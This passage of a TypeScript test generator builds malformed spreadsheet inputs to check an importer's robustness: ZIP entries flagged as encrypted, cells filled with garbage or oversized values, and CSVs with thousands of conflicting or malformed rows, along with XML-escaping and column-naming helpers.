        );
        break;
      default: {
        // Bit 0 of the general-purpose flags: the entry is encrypted.
        bytes = zipOf(parts);
        let at = bytes.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
        while (at >= 0) {
          bytes.writeUInt16LE(bytes.readUInt16LE(at + 8) | 1, at + 8);
          at = bytes.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]), at + 4);
        }
      }
    }
    return made(seed, variant, bytes ?? zipOf(parts), { mustNotLeak: [SECRET_TEXT] });
  },

  'cell-garbage'(dice) {
    const seed = dice.pick(seeds());
    const garbage = () =>
      dice.pick([
        '9'.repeat(dice.int(16, 400)),
        '99/99/9999',
        '31/02/2025',
        '0/0/0',
        '1e308',
        '-0',
        'NaN',
        '\u0000\u0001\u0002',
        '😀🏍️‍🔥',
        '\u202eRTL\u202c',
        '\ud800',
        'Ｎｏ Ｍｅｓｉｎ',
        '0812'.repeat(dice.int(10, 3000)),
        '+62 +62 +62 812 ',
        '-'.repeat(dice.int(1, 5000)),
        `${'17 Agustus '.repeat(dice.int(1, 2000))}2025`,
        '/'.repeat(dice.int(1, 20_000)),
        '1'.repeat(dice.int(1, 30_000)),
        ' '.repeat(dice.int(1, 30_000)),
        'Bpk. '.repeat(dice.int(1, 6000)),
        'H. Hj. Ir. Dr. '.repeat(dice.int(1, 2000)),
        `${'0'.repeat(dice.int(1, 30_000))}1`,
        `2025-08-${'1'.repeat(dice.int(1, 30_000))}`,
        'KPB '.repeat(dice.int(1, 8000)),
      ]);
    if (seed.format === 'csv') {
      const rows = csvRows(seed).map((row, at) =>
        at < 2 ? row : row.map((cell) => (dice.chance(0.6) ? garbage() : cell)),
      );
      return made(seed, 'garbage values', Buffer.from(csvText(rows)));
    }
    const aliases = aliasKeys(seed.reportKind);
    const parts = withPart(partsOf(seed), STRINGS, (xml) =>
      xml.replace(/(<t[^>]*>)([^<]*)(<\/t>)/g, (whole, open: string, text: string, close: string) =>
        aliases.has(headerKey(text)) || !dice.chance(0.7)
          ? whole
          : `${open}${asReferences(escapeXml(garbage()))}${close}`,
      ),
    );
    return made(seed, 'garbage values', zipOf(parts));
  },

  'many-rows'(dice) {
    const seed = dice.pick(csvSeeds());
    const rows = csvRows(seed);
    const body = rows.slice(-1)[0] as string[];
    const count = dice.pick([5_000, 20_000]);
    // One key on every row, each with other data: every row a conflict that names the others.
    const oneKey = dice.chance(0.5);
    const lines = [...rows.map((row) => row.join(';'))];
    for (let index = 0; index < count; index += 1)
      lines.push(
        body
          .map((cell, at) => {
            if (oneKey) return at === body.length - 1 || at === 2 ? `${cell}${index}` : cell;
            return at === 0 && dice.chance(0.5) ? `X${index}` : cell;
          })
          .join(';'),
      );
    const variant = oneKey
      ? `${count} rows of one key, each with other data`
      : `${count} rows, half of them malformed`;
    return made(seed, variant, Buffer.from(`${lines.join('\r\n')}\r\n`));
  },
};

/**
 * Characters XML cannot hold as they are, written as character references (`&#1;`,
 * `&#xD800;`): what a careless writer does, and what a parser must refuse.
 */
function asReferences(text: string): string {
  return [...text]
    .map((char) => {
      const code = char.codePointAt(0) ?? 0;
      if (code < 9) return `&#${code};`;
      return code >= 0xd800 && code <= 0xdfff ? `&#x${code.toString(16).toUpperCase()};` : char;
    })
    .join('');
}

/** `A` for 0, `XFD` for 16,383. */
function columnName(index: number): string {
  let name = '';
  for (let rest = index + 1; rest > 0; rest = Math.floor((rest - 1) / 26))
    name = String.fromCharCode(65 + ((rest - 1) % 26)) + name;
  return name;
}
